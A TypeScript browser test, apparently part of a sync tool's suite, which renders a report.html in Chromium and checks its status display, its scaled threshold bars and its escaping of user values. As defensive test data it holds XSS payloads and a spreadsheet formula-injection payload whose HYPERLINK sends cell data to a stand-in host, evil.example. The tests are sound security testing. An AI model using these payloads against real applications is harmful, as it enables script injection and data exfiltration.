// report.html in a real browser (Debian's Chromium through playwright-core): the status,
// counts and threshold bar are visible and to scale, markup in user values shows as text
// and runs nothing, and the page loads nothing from anywhere. Skips only where Chromium
// is not installed and never in CI (.ci/run installs it there).
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { renderReportHtml } from '../../src/report/render-report-html.js';
import type { SyncReport } from '../../src/model/report.js';
import { chromiumAvailable, launchChromium, watchPage, type PageWatch } from './chromium.js';
import { bigReport, hostileReport, thresholdReport } from './report-fixtures.js';

const available = chromiumAvailable('the report.html browser test');

// Runs in the page; typed structurally because the project's lib has no DOM types.
const backgroundOf = (el: unknown): string =>
  (globalThis as unknown as { getComputedStyle(e: unknown): { backgroundColor: string } }).getComputedStyle(el).backgroundColor;

const HOSTILE_TITLE = '<script>window.__pwned = "title"</script> report';

/** A held-back run whose issues carry every markup and formula payload. */
const report: SyncReport = {
  ...thresholdReport,
  runId: 'run-browser-1',
  scope: hostileReport.scope,
  file: hostileReport.file,
  issues: [...thresholdReport.issues, ...hostileReport.issues],
  rows: hostileReport.rows,
};

describe.skipIf(!available)('report.html in Chromium', () => {
  let browser: Browser;
  let page: Page;
  let dir: string;
  let watch: PageWatch;

  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'guardian-sync-html-'));
    const file = join(dir, 'report.html');
    await writeFile(file, renderReportHtml(report, { title: HOSTILE_TITLE }), 'utf8');
    browser = await launchChromium();
    page = await browser.newPage({ viewport: { width: 1100, height: 900 } });
    watch = watchPage(page);
    await page.goto(pathToFileURL(file).href, { waitUntil: 'load' });
  });

  afterAll(async () => {
    await browser?.close();
    if (dir !== undefined) await rm(dir, { recursive: true, force: true });
  });

  it('shows the status and the counts', async () => {
    const status = page.locator('#status');
    await expect(status.isVisible()).resolves.toBe(true);
    await expect(status.textContent()).resolves.toBe('Held back by the safety threshold');
    const unchanged = page.locator('tr[data-count="unchanged"]');
    await expect(unchanged.isVisible()).resolves.toBe(true);
    await expect(unchanged.innerText()).resolves.toMatch(/^Unchanged\s+3$/);
    await expect(page.locator('tr[data-count="linksAdded"]').innerText()).resolves.toMatch(/^Links added\s+1$/);
  });

  it('draws the removal and archive bars to scale, with accessible names', async () => {
    for (const [id, ratio, name] of [
      ['removal-ratio', 0.4, 'Removals 40% of managed links (maximum 10%), exceeded'],
      ['archive-ratio', 0.05, 'Archives 5% of managed guardians (maximum 10%)'],
    ] as const) {
      const track = page.getByRole('img', { name, exact: true });
      await expect(track.isVisible()).resolves.toBe(true);
      const trackBox = await track.boundingBox();
      const fillBox = await track.locator('.bar-fill').boundingBox();
      const maxBox = await track.locator('.bar-max').boundingBox();
      expect(trackBox?.width ?? 0).toBeGreaterThan(100);
      expect(fillBox?.width ?? 0).toBeGreaterThan(0);
      // The fill is a percentage of the track's content box (its 1px border excluded).
      const inner = (trackBox?.width ?? 0) - 2;
      expect(Math.abs((fillBox?.width ?? 0) - inner * ratio)).toBeLessThan(1.5);
      expect(Math.abs((maxBox?.x ?? 0) + (maxBox?.width ?? 0) / 2 - ((trackBox?.x ?? 0) + 1 + inner * 0.1))).toBeLessThan(1.5);
      expect(await page.locator(`#${id}`).innerText()).toContain(name.replace(', exceeded', ''));
    }
    await expect(page.locator('#removal-ratio .exceeded').isVisible()).resolves.toBe(true);
    const red = await page.locator('#removal-ratio .bar-fill').evaluate(backgroundOf);
    const blue = await page.locator('#archive-ratio .bar-fill').evaluate(backgroundOf);
    expect(red).toMatch(/^rgb/);
    expect(red).not.toBe(blue);
  });

  it('shows markup from user values as text and runs none of it', async () => {
    const cell = page.locator('td.msg', { hasText: '<script>alert(1)</script>' }).first();
    await expect(cell.isVisible()).resolves.toBe(true);
    await expect(cell.textContent()).resolves.toContain('<script>alert(1)</script>');
    await expect(page.locator('td.msg', { hasText: '"><img src=x onerror=alert(1)>' }).first().isVisible()).resolves.toBe(true);
    await expect(page.getByText('<script>alert(1)</script>.csv', { exact: true }).isVisible()).resolves.toBe(true);
    await expect(page.title()).resolves.toBe(HOSTILE_TITLE);
    await expect(page.locator('script, img, svg, iframe, object, embed, link').count()).resolves.toBe(0);
    await expect(page.evaluate('typeof window.__pwned')).resolves.toBe('undefined');
    expect(watch.dialogs).toEqual([]);
    expect(watch.problems).toEqual([]);
  });

  it('shows formula payloads inert in the issue tables', async () => {
    const messages = await page.locator('#issue-INVALID_EMAIL td.msg').allTextContents();
    expect(messages).toContain(`'=HYPERLINK("http://evil.example/?d="&A1,"Click for details")`);
    expect(messages).toContain("'\uFF20SUM(A1)");
    for (const text of messages) expect(text).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
  });

  it('loads nothing but the file itself', () => {
    expect(watch.requests.length).toBeGreaterThan(0);
    for (const url of watch.requests) expect(url.startsWith('file:')).toBe(true);
  });

  it('takes a full-page screenshot', async () => {
    const shot = join(dir, 'report.png');
    await page.screenshot({ path: shot, fullPage: true });
    const png = await readFile(shot);
    expect([...png.subarray(0, 8)]).toEqual([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
    // A full page is taller than the viewport: the issue tables and rows are all there.
    expect(png.readUInt32BE(20)).toBeGreaterThan(900);
  });

  it('opens a capped 10,050-row report and says how many rows it shows', async () => {
    const file = join(dir, 'big.html');
    await writeFile(file, renderReportHtml(bigReport(10_050)), 'utf8');
    const big = await browser.newPage();
    try {
      await big.goto(pathToFileURL(file).href, { waitUntil: 'load' });
      await expect(big.locator('#rows-capped').innerText()).resolves.toBe('First 10,000 rows of 10,050; report.json has them all.');
      await expect(big.locator('table.rows tbody tr').count()).resolves.toBe(10_000);
    } finally {
      await big.close();
    }
  });
});
